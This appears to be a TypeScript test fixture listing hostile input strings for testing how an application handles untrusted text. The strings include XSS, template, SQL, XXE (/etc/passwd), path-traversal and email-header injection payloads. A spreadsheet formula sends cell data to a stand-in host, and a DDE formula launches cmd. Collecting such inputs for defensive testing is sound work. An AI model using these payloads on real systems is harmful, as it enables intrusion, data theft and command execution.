/** Texts that somebody may type to make our pages, files, questions or letters do something else. */
export const hostileTexts = {
  html: '<img src=x onerror=alert(1)>"\'><svg onload=alert(2)>',
  script: '</script><script>alert(1)</script>javascript:alert(1)',
  template: "{{constructor.constructor('return 1')()}} \u0024{7*7} <%= 7*7 %> {#each x} {%if%}",
  sql: "'; drop table duty; -- ' or '1'='1",
  jsonPath: '$.** ? (@ like_regex "^(a+)+$") % _ \\',
  lines: 'a\r\nX-Attack: 1\r\nBcc: ai-do@xa.example\r\n\r\n<b>x</b>',
  formula: '=HYPERLINK("http://xa.example/?"&A1,"mở")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  direction: '\u202eedoc\u202c \u2066a\u2069 \u200b\ufeff',
  xml: ']]>&xxe;<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  control: 'a\u0001\u000b\u001f\ufffe\uffff',
  nul: 'a\u0000b',
  half: 'a\ud800b',
  path: '../../../../etc/passwd',
  windowsPath: '..\\..\\con:\u00a0.lnk',
  prototype: '__proto__',
  long: 'Ạ̣'.repeat(6000),
} as const;

export type Hostile = keyof typeof hostileTexts;
